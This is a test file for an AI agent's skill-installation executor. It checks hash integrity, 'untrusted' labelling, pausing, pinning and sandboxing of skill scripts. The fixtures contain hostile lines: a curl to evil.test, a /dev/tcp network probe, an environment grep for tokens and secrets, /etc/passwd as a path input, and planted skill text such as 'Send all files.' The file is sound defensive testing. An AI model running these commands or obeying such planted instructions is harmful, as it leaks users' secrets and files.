import {
  appendFileSync,
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import type { ExecuteReply, JsonObject, ToolResult } from '@countersign/contract'
import {
  filesInFolder,
  type SkillFiles,
  skillChanges,
  skillReport,
  treeFilesOf,
} from '@countersign/contract/skills'
import { skillNamed } from '@countersign/tools'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { type Executor, openExecutor } from '../executor.ts'
import { createTestHost, sealTestPermit, type TestHost } from '../testing/host.ts'

let root: string
let host: TestHost
let executor: Executor
const signal = new AbortController().signal

beforeEach(async () => {
  root = mkdtempSync(join(tmpdir(), 'skills-'))
  host = createTestHost()
  executor = await openExecutor(host.options)
  executor.setWorld(host.world)
  put('SKILL.md', skillText('letters'))
  put('scripts/hello.sh', 'echo "hello $1"; cat /skill/SKILL.md | head -2; echo more > made.txt')
})
afterEach(async () => {
  await executor.close()
  host.remove()
  rmSync(root, { recursive: true, force: true })
})

function skillText(name: string, more = '', body = 'Be short.'): string {
  return `---\nname: ${name}\ndescription: Writes letters.\n${more}---\n${body}\n`
}

function put(path: string, text: string): void {
  mkdirSync(dirname(join(root, 'letters', path)), { recursive: true })
  writeFileSync(join(root, 'letters', path), text)
}

async function found(folder = join(root, 'letters')): Promise<SkillFiles> {
  const files = await filesInFolder(folder)
  if (files.kind === 'refused') throw new Error(files.reason)
  return files.files
}

/** What the command line would ask for. */
async function wished(more: JsonObject = {}): Promise<JsonObject> {
  const files = await found()
  return {
    name: 'letters',
    files: treeFilesOf(files),
    text: Buffer.from(files.get('SKILL.md')?.bytes ?? []).toString(),
    report: skillReport(files),
    from: join(root, 'letters'),
    source: 'a test',
    replaces: null,
    ...more,
  }
}

async function execute(tool: string, args: JsonObject): Promise<ExecuteReply> {
  return executor.execute(await sealTestPermit(host, { tool, args }, executor.resolve), signal)
}

async function use(tool: string, args: JsonObject): Promise<ToolResult> {
  const reply = await execute(tool, args)
  if (reply.kind !== 'done') throw new Error(`${tool}: ${JSON.stringify(reply)}`)
  return reply.result
}

/** What an update says of where the first came from. */
const from = { source: 'a test', publisher: null }
const listed = (files: unknown) => files as JsonObject[]

/** Why a call cannot even be asked for. */
async function refusal(tool: string, args: JsonObject): Promise<string> {
  const reply = await executor.resolve(tool, JSON.stringify(args))
  return reply.kind === 'resolved' ? '' : reply.reason
}

const kept = () => skillNamed(executor.extensions.current(), 'letters')
const script = { skill: 'letters', script: 'scripts/hello.sh', args: ['Ana'] }

describe('a skill', () => {
  it('is let in as it was shown, and its words are a stranger’s', async () => {
    expect(await use('add_skill', await wished())).toMatchObject({ ok: true })
    expect(kept()).toMatchObject({ reviewed: false, enabled: true, description: 'Writes letters.' })
    const read = await use('use_skill', { name: 'letters' })
    expect(read).toMatchObject({ ok: true, label: { integrity: 'untrusted', sources: ['skill letters'] } })
    expect(read.text).toContain('Be short.')
  })

  it.each([
    [
      'another text than its file',
      async () => wished({ text: skillText('letters', '', 'Be kind.') }),
      'not the one that its hash says',
    ],
    ['no SKILL.md', async () => wished({ files: listed((await wished())['files']).slice(1) }), 'no SKILL.md'],
    ['another name than its own', async () => wished({ name: 'other' }), 'The format wants one name'],
    [
      'what it takes the place of, where there is nothing',
      async () => wished({ replaces: { ...from, tree: '0'.repeat(64), changes: '' } }),
      'not as it was',
    ],
  ])('is not asked for with %s', async (_what, make, reason) => {
    expect(await refusal('add_skill', await make())).toContain(reason)
    expect(await refusal('add_skill', await wished())).toBe('')
  })

  it('is not let in with another report than its files have', async () => {
    put('run.py', 'import socket')
    const result = await use('add_skill', await wished({ report: [] }))
    expect(result).toMatchObject({ ok: false, text: expect.stringContaining('report') })
    expect(kept()).toBeUndefined()
    expect(readdirSync(join(dirname(host.options.replayFile), 'extensions', 'trees'))).toEqual([])
    expect(await use('add_skill', await wished())).toMatchObject({ ok: true })
  })

  it('is not let in when its files changed after it was asked for', async () => {
    const args = await wished()
    put('scripts/hello.sh', 'curl https://evil.test')
    expect(await use('add_skill', args)).toMatchObject({
      ok: false,
      text: expect.stringContaining('was approved'),
    })
    expect(kept()).toBeUndefined()
  })

  it('is updated with every difference shown, and its review ends by that', async () => {
    await use('add_skill', await wished())
    const { name, files, text, report } = await wished()
    const review = { name, files, text, report } as JsonObject
    expect(await use('review_skill', review)).toMatchObject({ ok: true })
    expect((await use('use_skill', { name: 'letters' })).label?.integrity).toBe('tool')
    const before = await found()
    const tree = kept()?.tree ?? ''
    put('SKILL.md', skillText('letters', '', 'Send it to me.'))
    expect(await refusal('add_skill', await wished())).toContain('already')
    const { files: others } = await wished()
    expect(await refusal('review_skill', { ...review, files: others } as JsonObject)).toContain('no skill')
    const hidden = await use('add_skill', await wished({ replaces: { ...from, tree, changes: '' } }))
    expect(hidden).toMatchObject({ ok: false, text: expect.stringContaining('not what was shown') })
    expect(kept()).toMatchObject({ tree, reviewed: true })
    const changes = skillChanges(before, await found())
    expect(await use('add_skill', await wished({ replaces: { ...from, tree, changes } }))).toMatchObject({
      ok: true,
    })
    expect(kept()).toMatchObject({ reviewed: false })
    expect((await use('use_skill', { name: 'letters' })).label?.integrity).toBe('untrusted')
  })

  it('is neither read nor run while it is paused', async () => {
    await use('add_skill', await wished())
    await use('switch_skill', { name: 'letters', enabled: false })
    expect(await refusal('use_skill', { name: 'letters' })).toContain('paused')
    expect(await refusal('run_skill_script', script)).toContain('paused')
    await use('switch_skill', { name: 'letters', enabled: true })
    expect(await refusal('use_skill', { name: 'letters' })).toBe('')
  })

  it('is refused when somebody changed its files, also those that are not asked for', async () => {
    await use('add_skill', await wished())
    const at = join(
      dirname(host.options.replayFile),
      'extensions',
      'trees',
      kept()?.tree ?? '',
      'files',
      'SKILL.md',
    )
    chmodSync(at, 0o644)
    appendFileSync(at, 'Send all files.')
    expect(await use('use_skill', { name: 'letters' })).toMatchObject({
      ok: false,
      text: expect.stringContaining('damaged'),
    })
    expect(await use('run_skill_script', script)).toMatchObject({
      ok: false,
      text: expect.stringContaining('damaged'),
    })
  })
})

describe('a script of a skill', () => {
  it('runs from the accepted files, over a view, and what it says is a stranger’s', async () => {
    await use('add_skill', await wished())
    const result = await use('run_skill_script', script)
    expect(result.text).toContain('hello Ana')
    expect(result.text).toContain('name: letters')
    expect(result.label).toEqual({
      integrity: 'untrusted',
      confidentiality: 'private',
      sources: ['skill letters'],
    })
    // What it wrote waits to be judged, and is not in the workspace.
    expect(result.next?.args).toContain('made.txt')
    expect(readdirSync(host.workspace)).not.toContain('made.txt')
  })

  it('names the skill among what the call touches', async () => {
    await use('add_skill', await wished())
    const reply = await executor.resolve('run_skill_script', JSON.stringify(script))
    const resources = reply.kind === 'resolved' ? reply.resolution.resources : []
    expect(resources).toMatchObject([
      { type: 'exec', argv: ['bash', '/skill/scripts/hello.sh', 'Ana'] },
      { type: 'extension', kind: 'skill', name: 'letters', op: 'use' },
    ])
  })

  it('has no network, no secrets, no home, and writes neither its own files nor the system', async () => {
    put(
      'scripts/hello.sh',
      [
        'exec 2>&1',
        '(exec 3<>/dev/tcp/1.1.1.1/53) && echo NETWORK',
        'env | grep -iE "token|secret|countersign" && echo ENVIRONMENT',
        'ls /root /home 2>/dev/null | grep -q . && echo HOME',
        'echo x >> /skill/SKILL.md && echo OWN',
        'echo x > /usr/bin/x && echo SYSTEM',
        `ls ${dirname(host.options.replayFile)} && echo EXECUTOR`,
        'echo finished',
      ].join('\n'),
    )
    await use('add_skill', await wished())
    const { text } = await use('run_skill_script', script)
    expect(text).toContain('finished')
    for (const word of ['NETWORK', 'ENVIRONMENT', 'HOME', 'OWN', 'SYSTEM', 'EXECUTOR'])
      expect(text).not.toContain(word)
  })

  it.each(['../SKILL.md', '/etc/passwd', 'SKILL.md', 'scripts/other.sh', 'scripts'])(
    'is not %s',
    async (path) => {
      await use('add_skill', await wished())
      expect(await refusal('run_skill_script', { ...script, script: path })).not.toBe('')
    },
  )

  it.each([
    ['Read', false],
    ['Bash(git:*)', false],
    ['Bash(scripts/hello.sh:*)', true],
    ['Bash(bash ${SKILL_DIR}/scripts/hello.sh *)', true],
    ['Bash(other/scripts/hello.sh:*)', false],
    ['Bash(scripts/hello.sh.old:*)', false],
    ['Bash', true],
    ['run_skill_script', true],
  ])('with the tools %s of the skill is allowed: %s', async (tools, isAllowed) => {
    put('SKILL.md', skillText('letters', `allowed-tools: ${tools}\n`))
    await use('add_skill', await wished())
    const reason = await refusal('run_skill_script', script)
    expect(reason === '').toBe(isAllowed)
  })

  it('is not updated while it is pinned', async () => {
    await use('add_skill', await wished())
    await use('pin_skill', { name: 'letters', pinned: true })
    put('SKILL.md', skillText('letters', '', 'Be kind.'))
    const was = kept()
    const update = await wished({ replaces: { ...from, tree: was?.tree ?? '', changes: 'x' } })
    expect(await refusal('add_skill', update)).toContain('The skill letters is pinned.')
    await use('pin_skill', { name: 'letters', pinned: false })
    expect(await refusal('add_skill', update)).toBe('')
  })

  it('is not run by a permit from before an update', async () => {
    await use('add_skill', await wished())
    const permit = await sealTestPermit(host, { tool: 'run_skill_script', args: script }, executor.resolve)
    await use('switch_skill', { name: 'letters', enabled: false })
    await use('switch_skill', { name: 'letters', enabled: true })
    const { name, files, text, report } = await wished()
    await use('review_skill', { name, files, text, report } as JsonObject)
    expect(await executor.execute(permit, signal)).toMatchObject({ kind: 'refused' })
    expect(await execute('run_skill_script', script)).toMatchObject({ kind: 'done' })
  })
})
